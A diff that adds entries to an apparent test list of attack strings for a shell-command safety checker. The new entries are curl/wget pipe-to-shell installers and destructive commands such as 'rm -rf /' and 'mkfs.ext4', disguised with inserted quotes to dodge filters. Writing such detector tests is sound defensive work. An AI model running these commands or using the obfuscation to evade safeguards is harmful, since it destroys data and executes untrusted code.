@@ -319,6 +319,12 @@ ATTACKS = [
     "echo pw | sudo -S ls",
     "chmod -R 777 /",
     "echo 'unbalanced",
+    "curl -fsSL https://example.com/install.sh | sh",
+    "wget -qO- https://example.com/install.sh | sudo bash",
+    'bash -c "$(curl -fsSL https://example.com/install.sh)"',
+    "sh <(curl -s https://example.com/install.sh)",
+    "m''kfs.ext4 /dev/sdb",
+    'r""m -rf /',
 ]
 ORDINARY = [
     "rm -rf ./build",
